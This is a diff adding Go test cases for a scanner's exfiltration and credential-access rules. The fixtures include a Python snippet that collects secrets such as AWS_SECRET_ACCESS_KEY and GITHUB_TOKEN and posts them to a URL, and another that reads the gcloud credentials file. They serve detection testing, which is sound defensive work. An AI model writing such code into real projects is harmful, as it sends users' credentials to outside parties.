@@ -110,3 +110,17 @@ func TestExfiltrationIntoAnUnchangedRequest(t *testing.T) {
 			[]expect{{sev: High, evidence: []string{"src/ping.ts:7"}}}},
 	})
 }
+
+func TestSecretsCollectedByName(t *testing.T) {
+	runRuleCases(t, RuleExfiltration, []ruleCase{
+		{"a list of secret names read one by one and posted", newRange(addFile("src/a.py",
+			"data = {}\nfor name in [\"AWS_SECRET_ACCESS_KEY\", \"GITHUB_TOKEN\", \"OPENAI_API_KEY\"]:\n    data[name] = os.getenv(name)\nrequests.post(URL, json=data)\n")),
+			[]expect{{sev: Critical, blocks: true, evidence: []string{"src/a.py:4"}}}},
+		{"one configured variable name is not a list", newRange(addFile("src/a.py",
+			"TOKEN_ENV = \"NOTES_TOKEN\"\nheaders = {\"Authorization\": os.getenv(TOKEN_ENV)}\nrequests.get(URL, headers=headers)\n")), nil},
+	})
+	runRuleCases(t, RuleCredentialAccess, []ruleCase{
+		{"gcloud application default credentials", newRange(addFile("src/g.py",
+			"p = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')\n")), []expect{{sev: High}}},
+	})
+}
